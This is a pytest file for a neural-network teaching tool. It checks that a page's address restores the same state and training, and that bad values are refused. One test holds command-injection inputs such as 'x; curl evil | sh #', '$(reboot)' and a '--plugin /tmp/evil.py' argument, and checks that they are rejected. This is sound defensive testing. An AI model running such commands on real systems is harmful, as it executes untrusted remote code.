"""The address: what it holds makes the very same page again, in a new program too, and what does not fit is said."""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable
from html import unescape
from pathlib import Path

import pytest

from backlit.cli import main
from backlit.errors import BacklitError
from backlit.page import running
from backlit.page.facts import facts_of, owners
from backlit.page.panels import PANELS
from backlit.page.routes import page_html
from backlit.page.session import Session
from backlit.page.sources import source_of


def trained(session: Session) -> Session:
    """Train as the trainer's thread does."""
    while session.playing:
        session.train(1.0)
    return session


def restore(session: Session, facts: dict[str, str]) -> Session:
    session.do("address.restore", {"settings": facts})
    return trained(session)


def drawn(session: Session) -> str:
    return session.draw(("address",))[1]["address"].html


def refused(session: Session, facts: dict[str, str]) -> str:
    with pytest.raises(BacklitError) as found:
        restore(session, facts)
    return str(found.value)


IRIS: tuple[tuple[str, dict[str, object], dict[str, str]], ...] = (
    ("address.show", {"view": "descent"}, {"view": "descent"}),
    ("bar.pace", {"speed": 3}, {"speed": "3"}),
    ("bar.pace", {"speed": 0}, {"speed": "full"}),
    ("network.mode", {"slopes": True}, {"edges": "slopes"}),
    ("unit.look", {"name": "h3"}, {"unit": "h3"}),
    ("weight.choose", {"name": "w(petal length (cm),h2)"}, {"weight": "w(petal length (cm),h2)"}),
    ("step.go", {"stage": 4}, {"step.stage": "5"}),
    ("step.single", {"number": 77}, {"step.alone": "77"}),
    ("step.move", {"by": 2}, {"step.place": "3"}),
    ("check.write", {"numbers": "net(h1)[66] = 0.1\n\nout(h1)[66] = 0.2"},
     {"check.numbers": "net(h1)[66] = 0.1; out(h1)[66] = 0.2"}),
    ("check.reveal", {"hint": 0}, {"check.hint": "0"}),
    ("check.means", {"delta": "-dE/dnet"}, {"check.sign": "-dE/dnet"}),
    ("predictions.show", {"which": "validation"}, {"predictions.rows": "validation"}),
    ("predictions.go", {"page": 1}, {"predictions.page": "2"}),
    ("predictions.choose", {"row": 3, "which": "validation"},
     {"predictions.chosen": "validation:3", "step.validation": "3"}),
    ("descent.take", {"over": "steepest"}, {"descent.plane": "steepest"}),
    ("descent.weights", {"x": "b(h1)", "y": "b(h2)"}, {"descent.x": "b(h1)", "descent.y": "b(h2)"}),
    ("boundary.over", {"x": "sepal width (cm)", "y": "petal width (cm)"},
     {"boundary.x": "sepal width (cm)", "boundary.y": "petal width (cm)"}),
    ("boundary.show", {"output": 2}, {"boundary.output": "3"}),
    ("build.change", {"name": "optimizer.rate", "text": "0.05"}, {"optimizer.rate": "0.05"}),
    ("lesson.begin", {"name": "iris", "step": 1}, {"lesson": "iris", "lesson.step": "1"}),
    ("bar.advance", {"epochs": 2}, {"trained": "2"}),
    ("bar.advance", {"updates": 8}, {"trained": "1+2"}),
    ("source.predict", {"column": "petal width (cm)"}, {"data.target": "petal width (cm)"}),
)  # fmt: skip
"""A command, and what the address holds after it."""


def new(data: str = "iris") -> Session:
    return Session(source_of(data), PANELS)


@pytest.mark.parametrize(("command", "given", "facts"), IRIS)
def test_what_is_chosen_is_in_the_address_and_comes_back_in_a_new_program(
    command: str, given: dict[str, object], facts: dict[str, str]
) -> None:
    session = new()
    session.do(command, given)
    assert facts_of(session) == {"data": "iris"} | facts
    again = restore(new(), facts_of(session))
    assert facts_of(again) == facts_of(session)
    assert again.training.network.parameters.tobytes() == session.training.network.parameters.tobytes()


def test_every_name_of_a_panel_is_tested_above_and_belongs_to_one_panel_alone() -> None:
    tested = {name for _, _, facts in IRIS for name in facts} | {"data"}
    session = new()
    assert set(owners(session.panels.values())) <= tested
    names = [name for panel in session.panels.values() for name in panel.NAMES]
    assert len(names) == len({*names})


WRONG = {
    "view": ("nowhere", "no view 'nowhere'"),
    "trained": ("many", "expected epochs, such as 200"),
    "speed": ("7", "the speed is 7"),
    "edges": ("red", "expected weights or slopes"),
    "unit": ("h99", "no unit 'h99'; it has"),
    "weight": ("w99", "no weight 'w99'"),
    "step.stage": ("last", "expected a whole number"),
    "step.stage.long": ("9" * 5_000, "expected a whole number"),
    "step.alone": ("9999", "expected a number from 1 to 90"),
    "step.validation": ("31", "expected a number from 1 to 30"),
    "step.place": ("17", "expected one from 1 to 16"),
    "check.numbers": ("1" * 20_001, "the numbers take 20,002 bytes; expected at most 20,000"),
    "check.hint": ("4", "expected one of 1, 2, 3, 0"),
    "check.sign": ("E", "δ is 'E'; expected dE/dnet or -dE/dnet"),
    "predictions.rows": ("test", "Invalid enum value 'test'"),
    "predictions.page": ("-1", "expected a whole number"),
    "predictions.chosen": ("validation:31", "expected a number from 1 to 30"),
    "descent.plane": ("none", "Invalid enum value 'none'"),
    "descent.x": ("w1", "no 'w1'"),
    "boundary.x": ("height", "no input 'height'"),
    "boundary.output": ("4", "expected a number from 1 to 3"),
    "lesson": ("cooking", "no lesson 'cooking'"),
    "data": ("../houses.csv --run fast", "start the program with it: backlit page ../houses.csv --run fast."),
    "data.open": ("houses.csv --data '", "the address is of other data"),
    "data.target": ("colour", "colour"),
    "nonsense": ("1", "nonsense"),
    "layers": ("many", "'many' is no layer"),
}


@pytest.mark.parametrize("name", WRONG)
def test_what_does_not_fit_is_refused_in_the_words_of_its_panel(name: str) -> None:
    text, words = WRONG[name]
    session = new()
    session.do("bar.advance", {"epochs": 1})
    weights = session.training.network.parameters.copy()
    assert words in refused(session, {name.partition(".long")[0].removesuffix(".open"): text})
    assert session.training.network.parameters.tobytes() == weights.tobytes()


@pytest.mark.parametrize("data", ["x; curl evil | sh #", "iris --plugin /tmp/evil.py", "$(reboot)", "--plugin=e.py"])
def test_no_command_is_offered_that_an_address_made(data: str) -> None:
    words = refused(new(), {"data": data})
    assert "the address is of other data" in words
    assert "backlit page" not in words


def test_all_that_is_wrong_is_said_and_the_rest_is_chosen() -> None:
    session = new()
    words = refused(session, {"unit": "h99", "weight": "w99", "edges": "slopes", "optimizer.rate": "0.5"})
    assert "unit=h99: " in words
    assert "weight=w99: " in words
    assert facts_of(session) == {"data": "iris", "edges": "slopes", "optimizer.rate": "0.5"}


def test_the_same_address_again_leaves_the_training_as_it_is() -> None:
    session = new()
    address = facts_of(session)
    session.do("weight.choose", {"name": "b(h1)"})
    session.do("bar.advance", {"epochs": 3})
    later = facts_of(session)
    training = session.training
    restore(session, later)
    assert (session.training, facts_of(session)) == (training, later)
    restore(session, address)  # what it does not name is as at first; no epoch is undone
    assert (session.training, facts_of(session)) == (training, {"data": "iris", "trained": "3"})


def test_an_address_that_undoes_a_training_waits_until_a_person_says_so() -> None:
    session = new()
    session.do("bar.advance", {"epochs": 5})
    trained(session)
    training = session.training
    wanted = {"data": "iris", "optimizer.rate": "0.2", "view": "health"}
    for other in ({"data": "xor"}, {"data": "iris", "data.target": "petal_width"}, wanted):
        restore(session, other)
        assert session.training is training
        assert "the training of 5 epochs that is here is lost" in drawn(session)
    session.do("address.keep", {})
    assert "address-build" not in drawn(session)
    assert facts_of(session) == {"data": "iris", "trained": "5"}
    with pytest.raises(BacklitError, match="no address waits"):
        session.do("address.build", {})
    restore(session, wanted)
    session.do("address.build", {})
    assert "address-build" not in drawn(session)
    assert facts_of(session) == wanted


def test_while_it_plays_the_address_does_not_change() -> None:
    session = new()
    session.do("bar.play", {})
    session.train(0.01, 3)
    assert session.playing
    assert facts_of(session) == {"data": "iris"}


def test_an_address_of_other_bundled_data_takes_them() -> None:
    session = restore(new(), {"data": "xor", "layers": "2:tanh,1:sigmoid", "view": "data"})
    assert session.source.given == ("xor",)
    assert facts_of(session) == {"data": "xor", "layers": "2:tanh,1:sigmoid", "view": "data"}


def test_an_address_of_another_run_of_an_example_takes_it() -> None:
    session = Session(source_of("gates", run="OR"), PANELS)
    assert facts_of(session) == {"data": "gates --run OR"}
    again = restore(new(), facts_of(session))
    assert again.source.given == ("gates", "--run", "OR")
    assert (again.source.Y == session.source.Y).all()


def test_the_strongest_two_inputs_are_named_since_the_weights_chose_them() -> None:
    session = new()
    session.do("bar.advance", {"epochs": 5})
    session.do("boundary.strongest", {})
    session.draw(("boundary",))
    facts = facts_of(session)
    assert {facts["boundary.x"], facts["boundary.y"]} <= set(map(str, session.design.network["inputs"]))
    assert facts_of(restore(new(), facts)) == facts


def test_a_training_that_diverged_diverges_again() -> None:
    session = new("exploding")
    session.do("bar.play", {})
    trained(session)
    assert "diverged in epoch 2" in session.stopped
    again = restore(new("exploding"), facts_of(session))
    assert again.stopped == session.stopped
    assert again.training.network.parameters.tobytes() == session.training.network.parameters.tobytes()


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], Session]:
    """Give what opens a page by a command line, without serving it."""
    served: list[Session] = []
    monkeypatch.setattr(running, "run", lambda session, *_, **__: served.append(session))

    def run(words: str) -> Session:
        program, *arguments = shlex.split(words)
        assert program == "backlit"
        assert main(arguments) == 0
        return trained(served[-1])

    return run


def copied(session: Session) -> str:
    html = session.draw(("address",))[1]["address"].html
    return unescape(re.findall(r'id="address-command"[^>]*>([^<]*)<', html)[0])


def test_the_copied_command_opens_the_same_page(opened: Callable[[str], Session]) -> None:
    session = new()
    for name, text in (("layers", "4:relu,3:softmax"), ("optimizer.rate", "0.02")):
        session.do("build.change", {"name": name, "text": text})
    session.do("weight.choose", {"name": "w(petal width (cm),h4)"})
    session.do("boundary.over", {"x": "sepal width (cm)", "y": "petal width (cm)"})
    session.do("address.show", {"view": "descent"})
    session.do("bar.advance", {"epochs": 7})
    again = opened(copied(session))
    assert again.design == session.design
    assert facts_of(again) == facts_of(session)
    assert again.training.network.parameters.tobytes() == session.training.network.parameters.tobytes()
    assert copied(again) == copied(session)
    assert 'id="tab-descent" aria-controls="view-descent" aria-selected="true"' in page_html(again, [])


def test_the_command_of_a_file_names_it(opened: Callable[[str], Session], tmp_path: Path) -> None:
    path = tmp_path / "two words.csv"
    path.write_text("a,b,sum of both\n" + "".join(f"{a},{b},{a + b}\n" for a in range(8) for b in range(4)))
    session = Session(source_of(str(path), "sum of both"), PANELS)
    session.do("boundary.over", {"x": "b", "y": "a"})
    again = opened(copied(session))
    assert facts_of(again) == facts_of(session)
    assert facts_of(again)["data"] == shlex.quote(str(path))


def test_a_lesson_is_opened_by_command_and_copied(opened: Callable[[str], Session]) -> None:
    session = opened("backlit page --lesson xor --step 3")
    assert (session.source.given, len(session.training.history)) == (("xor",), 1_000)  # where step 2 is done
    assert copied(session) == "backlit page xor --lesson xor --step 3 --set trained=1000"
    session.do("unit.look", {"name": "h2"})
    again = opened(copied(session))
    assert facts_of(again) == facts_of(session)
    assert again.training.network.parameters.tobytes() == session.training.network.parameters.tobytes()


def test_a_lesson_that_is_not_there_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["page", "--lesson", "cooking"]) != 0
    assert "there is no lesson 'cooking'; there are gates" in capsys.readouterr().err
    assert main(["page", "--lesson", "xor", "--step", "9"]) != 0
    assert "expected a number from 1 to 4" in capsys.readouterr().err
    for words in (["--step", "3"], ["--set", "lesson.step=2"]):
        assert main(["page", *words]) != 0
        assert "a step is given without a lesson" in capsys.readouterr().err


def test_a_state_that_no_training_from_the_start_reaches_is_not_claimed() -> None:
    session = new()
    for name, text in (("schedule", "cosine"), ("epochs", "3")):
        session.do("build.change", {"name": name, "text": text})
    session.do("bar.advance", {"epochs": 3})
    assert facts_of(session)["trained"] == "3"
    session.do("bar.go_on", {})
    trained(session)
    assert "trained" not in facts_of(session)
    assert "It does not hold how far it was trained" in session.draw(("address",))[1]["address"].html
    session.do("bar.reset", {})
    session.do("bar.advance", {"epochs": 3})
    assert facts_of(session)["trained"] == "3"


def test_more_epochs_at_a_constant_rate_are_those_of_a_longer_training() -> None:
    session = new()
    session.do("build.change", {"name": "epochs", "text": "3"})
    session.do("bar.advance", {"epochs": 3})
    session.do("bar.go_on", {})
    trained(session)
    again = restore(new(), facts_of(session))
    assert facts_of(again)["trained"] == "6"
    assert again.training.network.parameters.tobytes() == session.training.network.parameters.tobytes()


def test_a_lesson_has_data_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["page", "iris", "--lesson", "xor"]) != 0
    assert "--lesson xor takes the data xor; leave iris out" in capsys.readouterr().err
